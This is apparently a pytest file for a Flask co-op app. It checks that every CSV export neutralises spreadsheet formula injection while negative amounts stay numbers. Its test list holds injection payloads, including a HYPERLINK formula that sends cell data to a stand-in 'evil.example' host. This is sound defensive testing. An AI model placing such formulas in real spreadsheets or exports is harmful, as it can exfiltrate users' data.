"""Every CSV export, found from the URL map (every route that answers
text/csv, so that a new one cannot be forgotten), is written by the one CSV
writer: no cell a spreadsheet would run as a formula, negative amounts still
numbers, one `Content-Type: text/csv; charset=utf-8` and a filename."""

from __future__ import annotations

import csv
import io
import re

from flask import Flask
from sqlalchemy.orm import Session

from coop.csv_export import needs_apostrophe, neutralise, unneutralise
from coop.ledger import services as ledger
from coop.suppliers.models import Supplier
from tests.conftest import login
from tests.factories import make_product
from tests.web.test_access_walk import _rules, _url, world  # noqa: F401  (fixture)

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1,1)", "-2+3",
            "@SUM(A1)", "\t=1+1", "\r=1+1", "'=1+1"]
_PLAIN_NUMBER = re.compile(r"-?[0-9]+([.,][0-9]+)?")


def test_the_writer_neutralises_formulas_and_keeps_numbers() -> None:
    for text in FORMULAS:
        cell = neutralise(text)
        assert cell.startswith("'") and unneutralise(cell) == text
    for number in ("-2,50", "-2.50", "1234", "0,5"):
        assert neutralise(number) == number
    assert not needs_apostrophe("Семена") and neutralise(None) == ""
    assert neutralise("-") == "'-" and neutralise("--5") == "'--5"


def test_every_csv_export_is_safe(app_ctx: Flask, world, session: Session  # noqa: F811
                                  ) -> None:
    params = world["params"]
    someone = next(m for m in world["group"].memberships if m.id == params["membership_id"])
    treasurer = world["treasurer"].user
    ledger.record_payment(session, someone, amount=1000, method="cash", reference=FORMULAS[0],
                          idempotency_key="csv-export-test-0001", actor=treasurer)
    for sign, reason in zip((1, -1, 1), FORMULAS[1:4], strict=True):
        ledger.adjust_member(session, someone, amount=sign * 250, reason=reason,
                             actor=treasurer)
    supplier = session.get(Supplier, params["supplier_id"])
    make_product(session, supplier, name="=1+1", article_code="@A1", unit="-kg")
    session.commit()

    client = app_ctx.test_client()
    login(client, world["treasurer"].user.email, "demo-password")
    exports = {}
    for rule in _rules(app_ctx):
        if "GET" in rule.methods and not rule.rule.startswith("/api/"):
            response = client.get(_url(rule, world))
            if response.mimetype == "text/csv":
                exports[rule.endpoint] = response
    assert {"ledger.statement_csv", "suppliers.export_catalog"} <= set(exports)
    seen = set()
    for endpoint, response in exports.items():
        assert response.status_code == 200, endpoint
        assert response.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"], endpoint
        disposition = response.headers["Content-Disposition"]
        assert re.match(r'attachment; filename="[^"]+\.csv"', disposition), disposition
        text = response.get_data().decode("utf-8")
        assert text.startswith("\ufeff")
        rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
        assert len(rows) > 1, endpoint
        for row in rows:
            for cell in row:
                seen.add(cell)
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert _PLAIN_NUMBER.fullmatch(cell), f"{endpoint}: formula {cell!r}"
    # what was typed is there, neutralised; negative amounts stay numbers
    assert "'" + FORMULAS[0] in seen and "'-2+3" in seen and "'@SUM(A1)" in seen
    assert "'=1+1" in seen and "'-kg" in seen
    negatives = {c for c in seen if c.startswith("-") and _PLAIN_NUMBER.fullmatch(c)}
    assert "-2.50" in negatives, sorted(negatives)
